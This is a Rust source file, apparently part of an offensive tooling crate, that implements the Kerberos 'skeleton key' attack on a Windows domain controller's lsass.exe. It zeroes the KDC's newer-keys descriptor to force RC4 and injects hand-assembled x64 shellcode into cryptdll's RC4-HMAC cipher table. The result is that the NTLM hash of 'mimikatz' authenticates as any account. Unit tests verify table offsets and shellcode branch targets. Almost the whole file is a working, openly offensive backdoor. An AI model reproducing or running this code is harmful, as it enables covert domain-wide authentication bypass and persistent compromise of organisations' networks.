//! Kerberos skeleton key
//!
//! Two coordinated mutations of the LSA process let a fixed RC4 key
//! ("mimikatz" hashed) authenticate as any principal while real passwords
//! keep working:
//!
//! - on domain controllers, the KDC's newer-keys descriptor is zeroed so
//!   ticket handling falls back to RC4
//! - the RC4-HMAC entry of the cryptdll cipher table gets its Initialize
//!   and Decrypt slots repointed at grafted routines that carry both the
//!   real context and a skeleton-key context, trying the real one first
//!
//! The cipher table layout is identical in our own cryptdll.dll and the
//! target's copy, so slot offsets and routine addresses are computed
//! locally and rebased onto the target's module base.

use core::ffi::c_void;
use core::mem::offset_of;

use windows_sys::Win32::System::LibraryLoader::GetModuleHandleW;

use crate::arch::Arch;
use crate::commands::Session;
use crate::error::{GraftError, Result};
use crate::inject::engine::inject;
use crate::inject::template::{placeholders, CodeTemplate};
use crate::memory::scanner::Scanner;
use crate::memory::space::MemorySpace;
use crate::patch::apply::PatchSet;
use crate::process::locator::{find_process_by_name, to_wide};
use crate::process::modules::{find_module, ModuleInfo};
use crate::version::builds;

const LSA_PROCESS: &str = "lsass.exe";
const KDC_MODULE: &str = "kdcsvc.dll";
const CRYPT_MODULE: &str = "cryptdll.dll";

const KERB_ETYPE_RC4_HMAC_NT: u32 = 23;

/// UTF-16 label the KDC's key-kinds descriptor points at
const NEWER_KEYS: &str = "Kerberos-Newer-Keys";

/// replacement for KERB_ECRYPT Initialize (x64)
///
/// allocates a 40-byte double context: the real cipher context at +0, a
/// context initialized from the skeleton key at +16, and the caller's key
/// pointer at +32. Failure of either original call frees the context and
/// propagates the status, like the routine it replaces would.
///
/// SLOT_E=LocalAlloc SLOT_F=LocalFree SLOT_G=memcpy SLOT_C=orig Initialize
const INIT_X64: &[u8] = &[
    0x48, 0x89, 0x5C, 0x24, 0x08, // mov [rsp+8], rbx
    0x48, 0x89, 0x6C, 0x24, 0x10, // mov [rsp+0x10], rbp
    0x48, 0x89, 0x74, 0x24, 0x18, // mov [rsp+0x18], rsi
    0x57, // push rdi
    0x48, 0x83, 0xEC, 0x50, // sub rsp, 0x50
    0x48, 0x8B, 0xD9, // mov rbx, rcx (key)
    0x8B, 0xEA, // mov ebp, edx (key size)
    0x41, 0x8B, 0xF0, // mov esi, r8d (key usage)
    0x49, 0x8B, 0xF9, // mov rdi, r9 (context out)
    0xB9, 0x40, 0x00, 0x00, 0x00, // mov ecx, LPTR
    0xBA, 0x28, 0x00, 0x00, 0x00, // mov edx, 40
    0x48, 0xB8, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, // mov rax, LocalAlloc
    0xFF, 0xD0, // call rax
    0x48, 0x89, 0x07, // mov [rdi], rax
    0x48, 0x85, 0xC0, // test rax, rax
    0x75, 0x0A, // jnz init_real
    0xB8, 0x9A, 0x00, 0x00, 0xC0, // mov eax, STATUS_INSUFFICIENT_RESOURCES
    0xE9, 0xD1, 0x00, 0x00, 0x00, // jmp epilogue
    // init_real:
    0x48, 0x8B, 0xCB, // mov rcx, rbx
    0x8B, 0xD5, // mov edx, ebp
    0x44, 0x8B, 0xC6, // mov r8d, esi
    0x4C, 0x8D, 0x4C, 0x24, 0x30, // lea r9, [rsp+0x30] (real context)
    0x48, 0xB8, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, // mov rax, Initialize
    0xFF, 0xD0, // call rax
    0x85, 0xC0, // test eax, eax
    0x79, 0x05, // jns copy_real
    0xE9, 0xC4, 0x00, 0x00, 0x00, // jmp fail
    // copy_real:
    0x48, 0x8B, 0x0F, // mov rcx, [rdi]
    0x48, 0x8B, 0x54, 0x24, 0x30, // mov rdx, [rsp+0x30]
    0x41, 0xB8, 0x10, 0x00, 0x00, 0x00, // mov r8d, 16
    0x48, 0xB8, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, // mov rax, memcpy
    0xFF, 0xD0, // call rax
    0xC7, 0x44, 0x24, 0x38, 0x60, 0xBA, 0x4F, 0xCA, // skeleton key dwords on the stack
    0xC7, 0x44, 0x24, 0x3C, 0xDC, 0x46, 0x6C, 0x7A,
    0xC7, 0x44, 0x24, 0x40, 0x03, 0x3C, 0x17, 0x81,
    0xC7, 0x44, 0x24, 0x44, 0x94, 0xC0, 0x3D, 0xF6,
    0x48, 0x8D, 0x4C, 0x24, 0x38, // lea rcx, [rsp+0x38]
    0xBA, 0x10, 0x00, 0x00, 0x00, // mov edx, 16
    0x44, 0x8B, 0xC6, // mov r8d, esi
    0x4C, 0x8D, 0x4C, 0x24, 0x48, // lea r9, [rsp+0x48] (skeleton context)
    0x48, 0xB8, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, 0x43, // mov rax, Initialize
    0xFF, 0xD0, // call rax
    0x89, 0x44, 0x24, 0x28, // mov [rsp+0x28], eax (spill status)
    0x85, 0xC0, // test eax, eax
    0x78, 0x2F, // js store_key
    0x48, 0x8B, 0x0F, // mov rcx, [rdi]
    0x48, 0x83, 0xC1, 0x10, // add rcx, 16
    0x48, 0x8B, 0x54, 0x24, 0x48, // mov rdx, [rsp+0x48]
    0x41, 0xB8, 0x10, 0x00, 0x00, 0x00, // mov r8d, 16
    0x48, 0xB8, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, // mov rax, memcpy
    0xFF, 0xD0, // call rax
    0x48, 0x8B, 0x4C, 0x24, 0x48, // mov rcx, [rsp+0x48]
    0x48, 0xB8, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, // mov rax, LocalFree
    0xFF, 0xD0, // call rax
    // store_key:
    0x48, 0x8B, 0x07, // mov rax, [rdi]
    0x48, 0x89, 0x58, 0x20, // mov [rax+0x20], rbx
    0x48, 0x8B, 0x4C, 0x24, 0x30, // mov rcx, [rsp+0x30]
    0x48, 0xB8, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, // mov rax, LocalFree
    0xFF, 0xD0, // call rax
    0x8B, 0x44, 0x24, 0x28, // mov eax, [rsp+0x28]
    0x85, 0xC0, // test eax, eax
    0x78, 0x15, // js fail
    // epilogue:
    0x48, 0x83, 0xC4, 0x50, // add rsp, 0x50
    0x5F, // pop rdi
    0x48, 0x8B, 0x74, 0x24, 0x18, // mov rsi, [rsp+0x18]
    0x48, 0x8B, 0x6C, 0x24, 0x10, // mov rbp, [rsp+0x10]
    0x48, 0x8B, 0x5C, 0x24, 0x08, // mov rbx, [rsp+8]
    0xC3, // ret
    // fail:
    0x8B, 0xE8, // mov ebp, eax
    0x48, 0x8B, 0x0F, // mov rcx, [rdi]
    0x48, 0xB8, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, // mov rax, LocalFree
    0xFF, 0xD0, // call rax
    0x48, 0xC7, 0x07, 0x00, 0x00, 0x00, 0x00, // mov qword [rdi], 0
    0x8B, 0xC5, // mov eax, ebp
    0xEB, 0xCF, // jmp epilogue
];

/// replacement for KERB_ECRYPT Decrypt (x64)
///
/// decrypts from a scratch copy of the input with the real context first;
/// on failure, restores the output size and retries with the skeleton
/// context at +16. A skeleton success also copies the key bytes over the
/// caller's stored key so later operations line up.
///
/// SLOT_E=LocalAlloc SLOT_F=LocalFree SLOT_G=memcpy SLOT_D=orig Decrypt
const DECRYPT_X64: &[u8] = &[
    0x48, 0x89, 0x5C, 0x24, 0x08, // mov [rsp+8], rbx
    0x48, 0x89, 0x6C, 0x24, 0x10, // mov [rsp+0x10], rbp
    0x48, 0x89, 0x74, 0x24, 0x18, // mov [rsp+0x18], rsi
    0x57, // push rdi
    0x41, 0x56, // push r14
    0x41, 0x57, // push r15
    0x48, 0x83, 0xEC, 0x50, // sub rsp, 0x50
    0x48, 0x8B, 0xD9, // mov rbx, rcx (context)
    0x48, 0x8B, 0xF2, // mov rsi, rdx (data)
    0x45, 0x8B, 0xF0, // mov r14d, r8d (data size)
    0x4D, 0x8B, 0xF9, // mov r15, r9 (output)
    0x48, 0x8B, 0x84, 0x24, 0x90, 0x00, 0x00, 0x00, // mov rax, [rsp+0x90] (output size ptr)
    0x8B, 0x28, // mov ebp, [rax] (original output size)
    0xB9, 0x40, 0x00, 0x00, 0x00, // mov ecx, LPTR
    0x41, 0x8B, 0xD6, // mov edx, r14d
    0x48, 0xB8, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, 0x4A, // mov rax, LocalAlloc
    0xFF, 0xD0, // call rax
    0x48, 0x85, 0xC0, // test rax, rax
    0x75, 0x0A, // jnz copy_input
    0xB8, 0x9A, 0x00, 0x00, 0xC0, // mov eax, STATUS_INSUFFICIENT_RESOURCES
    0xE9, 0xCF, 0x00, 0x00, 0x00, // jmp epilogue
    // copy_input:
    0x48, 0x89, 0x44, 0x24, 0x30, // mov [rsp+0x30], rax (scratch)
    0x48, 0x8B, 0xC8, // mov rcx, rax
    0x48, 0x8B, 0xD6, // mov rdx, rsi
    0x45, 0x8B, 0xC6, // mov r8d, r14d
    0x48, 0xB8, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, // mov rax, memcpy
    0xFF, 0xD0, // call rax
    0x48, 0x8B, 0xCB, // mov rcx, rbx
    0x48, 0x8B, 0x54, 0x24, 0x30, // mov rdx, [rsp+0x30]
    0x45, 0x8B, 0xC6, // mov r8d, r14d
    0x4D, 0x8B, 0xCF, // mov r9, r15
    0x48, 0x8B, 0x84, 0x24, 0x90, 0x00, 0x00, 0x00, // mov rax, [rsp+0x90]
    0x48, 0x89, 0x44, 0x24, 0x20, // mov [rsp+0x20], rax (5th arg)
    0x48, 0xB8, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, // mov rax, Decrypt
    0xFF, 0xD0, // call rax
    0x85, 0xC0, // test eax, eax
    0x79, 0x75, // jns free_scratch
    0x48, 0x8B, 0x84, 0x24, 0x90, 0x00, 0x00, 0x00, // mov rax, [rsp+0x90]
    0x89, 0x28, // mov [rax], ebp (restore output size)
    0x48, 0x8D, 0x4B, 0x10, // lea rcx, [rbx+16] (skeleton context)
    0x48, 0x8B, 0x54, 0x24, 0x30, // mov rdx, [rsp+0x30]
    0x45, 0x8B, 0xC6, // mov r8d, r14d
    0x4D, 0x8B, 0xCF, // mov r9, r15
    0x48, 0x8B, 0x84, 0x24, 0x90, 0x00, 0x00, 0x00, // mov rax, [rsp+0x90]
    0x48, 0x89, 0x44, 0x24, 0x20, // mov [rsp+0x20], rax
    0x48, 0xB8, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, 0x44, // mov rax, Decrypt
    0xFF, 0xD0, // call rax
    0x85, 0xC0, // test eax, eax
    0x78, 0x3F, // js free_scratch
    0xC7, 0x44, 0x24, 0x40, 0x60, 0xBA, 0x4F, 0xCA, // skeleton key dwords on the stack
    0xC7, 0x44, 0x24, 0x44, 0xDC, 0x46, 0x6C, 0x7A,
    0xC7, 0x44, 0x24, 0x48, 0x03, 0x3C, 0x17, 0x81,
    0xC7, 0x44, 0x24, 0x4C, 0x94, 0xC0, 0x3D, 0xF6,
    0x48, 0x8B, 0x4B, 0x20, // mov rcx, [rbx+0x20] (caller's key)
    0x48, 0x8D, 0x54, 0x24, 0x40, // lea rdx, [rsp+0x40]
    0x41, 0xB8, 0x10, 0x00, 0x00, 0x00, // mov r8d, 16
    0x8B, 0xF8, // mov edi, eax (spill status)
    0x48, 0xB8, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, 0x4C, // mov rax, memcpy
    0xFF, 0xD0, // call rax
    0x8B, 0xC7, // mov eax, edi
    // free_scratch:
    0x8B, 0xF8, // mov edi, eax
    0x48, 0x8B, 0x4C, 0x24, 0x30, // mov rcx, [rsp+0x30]
    0x48, 0xB8, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, 0x4B, // mov rax, LocalFree
    0xFF, 0xD0, // call rax
    0x8B, 0xC7, // mov eax, edi
    // epilogue:
    0x48, 0x83, 0xC4, 0x50, // add rsp, 0x50
    0x41, 0x5F, // pop r15
    0x41, 0x5E, // pop r14
    0x5F, // pop rdi
    0x48, 0x8B, 0x74, 0x24, 0x18, // mov rsi, [rsp+0x18]
    0x48, 0x8B, 0x6C, 0x24, 0x10, // mov rbp, [rsp+0x10]
    0x48, 0x8B, 0x5C, 0x24, 0x08, // mov rbx, [rsp+8]
    0xC3, // ret
];

/// cryptdll cipher-table entry, matching the layout CDLocateCSystem hands
/// back
#[repr(C)]
struct KerbEcrypt {
    encryption_type: i32,
    block_size: u32,
    exportable_type: i32,
    key_size: u32,
    header_size: u32,
    preferred_checksum: u32,
    attributes: u32,
    name: *const u16,
    initialize: *const c_void,
    encrypt: *const c_void,
    decrypt: *const c_void,
    finish: *const c_void,
}

/// where the grafted pieces landed in the target
#[derive(Debug)]
pub struct SkeletonOutcome {
    /// zeroed KDC key-kinds descriptor, when the KDC stage ran
    pub kdc_descriptor: Option<usize>,
    /// grafted Initialize routine
    pub init_routine: usize,
    /// grafted Decrypt routine
    pub decrypt_routine: usize,
}

/// install the skeleton key into the LSA process
///
/// `rc4_only` skips the KDC descriptor zeroing; it is also forced on
/// pre-Vista builds where the descriptor does not exist
pub fn install(session: &Session, rc4_only: bool) -> Result<SkeletonOutcome> {
    if session.arch != Arch::X64 {
        return Err(GraftError::UnsupportedArchitecture);
    }
    let rc4_only = rc4_only || session.build < builds::VISTA;

    let pid = find_process_by_name(LSA_PROCESS)?;
    let space = MemorySpace::open_remote(pid)?;

    let kdc_descriptor = if rc4_only {
        None
    } else {
        Some(zero_kdc_descriptor(&space, pid)?)
    };

    let (init_routine, decrypt_routine) = hook_rc4_system(&space, pid)?;
    tracing::info!(pid, ?kdc_descriptor, "skeleton key installed");
    Ok(SkeletonOutcome {
        kdc_descriptor,
        init_routine,
        decrypt_routine,
    })
}

/// find the KDC's key-kinds descriptor through its label and zero it
///
/// the descriptor is a counted-string structure pointing at the label, so
/// the label address found by the first scan is itself the needle of the
/// second
fn zero_kdc_descriptor(space: &MemorySpace, pid: u32) -> Result<usize> {
    let module = find_module(pid, KDC_MODULE)?;
    let range = space.range(module.base, module.size);

    let label: Vec<u8> = to_wide(NEWER_KEYS).iter().flat_map(|c| c.to_le_bytes()).collect();
    let label_addr = Scanner::new(range)
        .find(&label)?
        .ok_or(GraftError::PatternNotFound {
            context: "KDC newer-keys label",
        })?;

    let descriptor = counted_string_bytes(label_addr.addr);
    let site = Scanner::new(range)
        .find(&descriptor)?
        .ok_or(GraftError::PatternNotFound {
            context: "KDC key-kinds descriptor",
        })?;

    crate::patch::apply::write_at(space, site.addr, &vec![0u8; descriptor.len()])?;
    tracing::info!(pid, address = site.addr, "KDC descriptor zeroed");
    Ok(site.addr)
}

/// UNICODE_STRING-shaped bytes for the newer-keys label at `buffer`
fn counted_string_bytes(buffer: usize) -> Vec<u8> {
    let chars = NEWER_KEYS.encode_utf16().count() as u16;
    let mut bytes = Vec::with_capacity(16);
    bytes.extend_from_slice(&(chars * 2).to_le_bytes());
    bytes.extend_from_slice(&((chars + 1) * 2).to_le_bytes());
    // 4 bytes of alignment padding before the 8-byte buffer pointer
    bytes.extend_from_slice(&[0u8; 4]);
    bytes.extend_from_slice(&(buffer as u64).to_le_bytes());
    bytes
}

/// graft the double-context routines and repoint the RC4-HMAC cipher
/// table slots at them
fn hook_rc4_system(space: &MemorySpace, pid: u32) -> Result<(usize, usize)> {
    let remote = find_module(pid, CRYPT_MODULE)?;
    let (table_addr, init_orig, decrypt_orig) = rebase_rc4_system(&remote)?;

    let init_alloc = inject(space, &rc4_template(INIT_X64, init_orig, decrypt_orig))?;
    let decrypt_alloc = inject(space, &rc4_template(DECRYPT_X64, init_orig, decrypt_orig))?;

    let mut set = PatchSet::new(space);
    set.write_at(
        table_addr + offset_of!(KerbEcrypt, initialize),
        &(init_alloc.base() as u64).to_le_bytes(),
    )?;
    set.write_at(
        table_addr + offset_of!(KerbEcrypt, decrypt),
        &(decrypt_alloc.base() as u64).to_le_bytes(),
    )?;
    set.commit();

    // the routines are live in the cipher table now and can never be freed
    Ok((init_alloc.leak(), decrypt_alloc.leak()))
}

fn rc4_template(code: &'static [u8], init_orig: usize, decrypt_orig: usize) -> CodeTemplate {
    let template = CodeTemplate::new(Arch::X64, code)
        .with_export(placeholders::SLOT_E, "kernel32.dll", "LocalAlloc")
        .with_export(placeholders::SLOT_F, "kernel32.dll", "LocalFree")
        .with_export(placeholders::SLOT_G, "ntdll.dll", "memcpy");
    if code_has_slot(code, placeholders::SLOT_C) {
        template.with_address(placeholders::SLOT_C, init_orig)
    } else {
        template.with_address(placeholders::SLOT_D, decrypt_orig)
    }
}

fn code_has_slot(code: &[u8], slot: u64) -> bool {
    let needle = slot.to_le_bytes();
    code.windows(8).any(|w| w == needle)
}

/// locate the RC4-HMAC cipher entry in our own cryptdll and rebase its
/// table address and routine addresses onto the target's module base
fn rebase_rc4_system(remote: &ModuleInfo) -> Result<(usize, usize, usize)> {
    let name = to_wide(CRYPT_MODULE);
    // SAFETY: cryptdll is loaded in this process through the CDLocateCSystem
    // import below
    let local_base = unsafe { GetModuleHandleW(name.as_ptr()) } as usize;
    if local_base == 0 {
        return Err(GraftError::ModuleNotFound {
            name: CRYPT_MODULE.to_owned(),
        });
    }

    let mut table: *const KerbEcrypt = core::ptr::null();
    // SAFETY: CDLocateCSystem writes a table pointer on success
    let status = unsafe { CDLocateCSystem(KERB_ETYPE_RC4_HMAC_NT, &mut table) };
    if status < 0 || table.is_null() {
        return Err(GraftError::Win32Error {
            code: status as u32,
            context: "CDLocateCSystem",
        });
    }

    // SAFETY: the table pointer is valid for the process lifetime
    let (init_local, decrypt_local) = unsafe { ((*table).initialize as usize, (*table).decrypt as usize) };
    let rebase = |local: usize| remote.base + (local - local_base);
    Ok((
        rebase(table as usize),
        rebase(init_local),
        rebase(decrypt_local),
    ))
}

#[link(name = "cryptdll")]
extern "system" {
    fn CDLocateCSystem(etype: u32, table: *mut *const KerbEcrypt) -> i32;
}

#[cfg(test)]
mod tests {
    use super::*;

    // NTLM hash of "mimikatz", the RC4 skeleton key carried by the blobs
    const SKELETON_KEY: [u32; 4] = [0xCA4F_BA60, 0x7A6C_46DC, 0x8117_3C03, 0xF63D_C094];

    #[test]
    fn test_cipher_table_slot_offsets() {
        assert_eq!(offset_of!(KerbEcrypt, initialize), 40);
        assert_eq!(offset_of!(KerbEcrypt, decrypt), 56);
    }

    #[test]
    fn test_locate_local_rc4_system() {
        let mut table: *const KerbEcrypt = core::ptr::null();
        let status = unsafe { CDLocateCSystem(KERB_ETYPE_RC4_HMAC_NT, &mut table) };
        assert!(status >= 0);
        assert!(!table.is_null());

        let entry = unsafe { &*table };
        assert_eq!(entry.encryption_type, KERB_ETYPE_RC4_HMAC_NT as i32);
        assert_eq!(entry.key_size as usize, 16);
        assert!(!entry.initialize.is_null());
        assert!(!entry.decrypt.is_null());
    }

    #[test]
    fn test_counted_string_layout() {
        let bytes = counted_string_bytes(0x7FF0_0000_1234);
        assert_eq!(bytes.len(), 16);
        assert_eq!(u16::from_le_bytes([bytes[0], bytes[1]]), 38);
        assert_eq!(u16::from_le_bytes([bytes[2], bytes[3]]), 40);
        assert_eq!(
            u64::from_le_bytes(bytes[8..16].try_into().unwrap()),
            0x7FF0_0000_1234
        );
    }

    #[test]
    fn test_templates_pick_their_original_slot() {
        let init = rc4_template(INIT_X64, 0x1000, 0x2000);
        assert!(init
            .refs
            .iter()
            .any(|r| r.placeholder == placeholders::SLOT_C));
        let decrypt = rc4_template(DECRYPT_X64, 0x1000, 0x2000);
        assert!(decrypt
            .refs
            .iter()
            .any(|r| r.placeholder == placeholders::SLOT_D));
    }

    #[test]
    fn test_blobs_embed_skeleton_key() {
        for code in [INIT_X64, DECRYPT_X64] {
            for dword in SKELETON_KEY {
                assert!(code.windows(4).any(|w| w == dword.to_le_bytes()));
            }
        }
    }

    #[test]
    fn test_init_branch_targets() {
        // jnz over the allocation-failure return lands on mov rcx, rbx
        let pos = INIT_X64.windows(2).position(|w| w == [0x75, 0x0A]).unwrap();
        assert_eq!(&INIT_X64[pos + 2 + 0x0A..][..3], &[0x48, 0x8B, 0xCB]);

        // the trailing short jump returns to the epilogue (add rsp, 0x50)
        let last = INIT_X64.len() - 2;
        assert_eq!(&INIT_X64[last..], &[0xEB, 0xCF]);
        let target = last + 2 - 0x31;
        assert_eq!(&INIT_X64[target..][..4], &[0x48, 0x83, 0xC4, 0x50]);
    }

    #[test]
    fn test_decrypt_branch_targets() {
        // jns after the first Decrypt skips to the scratch free
        let pos = DECRYPT_X64
            .windows(2)
            .position(|w| w == [0x79, 0x75])
            .unwrap();
        let target = pos + 2 + 0x75;
        assert_eq!(&DECRYPT_X64[target..][..2], &[0x8B, 0xF8]);

        // js after the second Decrypt lands on the same spot
        let pos = DECRYPT_X64
            .windows(2)
            .position(|w| w == [0x78, 0x3F])
            .unwrap();
        assert_eq!(pos + 2 + 0x3F, target);
    }
}
